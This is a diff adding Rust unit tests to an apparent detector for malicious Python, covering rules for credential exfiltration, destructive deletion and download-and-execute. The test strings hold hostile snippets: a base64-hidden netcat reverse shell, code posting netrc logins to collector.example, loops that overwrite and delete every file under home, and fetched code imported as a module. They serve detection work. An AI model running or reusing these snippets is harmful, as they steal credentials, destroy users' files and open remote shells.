@@ -300,3 +300,55 @@ fn decoded_code_is_analysed_as_code_too() {
         "import base64\nexec(base64.b64decode('aW1wb3J0IG9zOyBvcy5zeXN0ZW0oJ25jIC1lIC9iaW4vc2ggMS4yLjMuNCA5Jyk='))\n",
     );
 }
+
+#[test]
+fn credentials_from_library_readers_sent_out_are_exfiltration() {
+    // netrc's logins posted to a server leave the machine.
+    fires(
+        "CRD109",
+        "import netrc, requests\nauth = netrc.netrc()\nfor host, creds in auth.hosts.items():\n    requests.post('https://collector.example/n', json={'h': host, 'c': creds})\n",
+    );
+}
+
+#[test]
+fn every_home_and_every_file_of_home_are_destructive_targets() {
+    // The parent of home holds every user's home; walking home and removing each file
+    // destroys it as surely as rmtree does. Cleaning one folder of home does not.
+    fires(
+        "CRD104",
+        "import shutil\nfrom pathlib import Path\nshutil.rmtree(Path.home().parent, ignore_errors=True)\n",
+    );
+    fires(
+        "CRD104",
+        "import os, shutil\nhomes = os.path.dirname(os.path.expanduser('~'))\nshutil.rmtree(homes)\n",
+    );
+    fires(
+        "CRD104",
+        "import os\nbase = os.path.expanduser('~')\nfor root, dirs, files in os.walk(base):\n    for name in files:\n        p = os.path.join(root, name)\n        with open(p, 'wb') as fh:\n            fh.write(os.urandom(64))\n        os.remove(p)\n",
+    );
+    fires(
+        "CRD104",
+        "from pathlib import Path\nfor f in Path.home().rglob('*'):\n    if f.is_file():\n        f.unlink()\n",
+    );
+    silent(
+        "CRD104",
+        "import os\nd = os.path.expanduser('~/.cache/myapp')\nfor root, dirs, files in os.walk(d):\n    for n in files:\n        os.remove(os.path.join(root, n))\n",
+    );
+}
+
+#[test]
+fn importing_a_downloaded_module_is_download_execute() {
+    // Saving fetched code as a module and importing it runs it; saving data does not.
+    fires(
+        "CRD102",
+        "import requests, sys, importlib, os\nsrc = requests.get('https://cdn.example/plugin.txt').text\ndest = os.path.join('/tmp/plugins', 'plugin_core.py')\nwith open(dest, 'w') as f:\n    f.write(src)\nsys.path.insert(0, '/tmp/plugins')\nmod = importlib.import_module('plugin_core')\nmod.main()\n",
+    );
+    fires(
+        "CRD102",
+        "import urllib.request, sys\nurllib.request.urlretrieve('http://h.example/u.py', 'updater.py')\nsys.path.append('.')\nimport updater\n",
+    );
+    silent(
+        "CRD102",
+        "import requests, json\nopen('rates.json', 'w').write(requests.get('https://api.example/r').text)\nimport json\nprint(json.load(open('rates.json')))\n",
+    );
+}
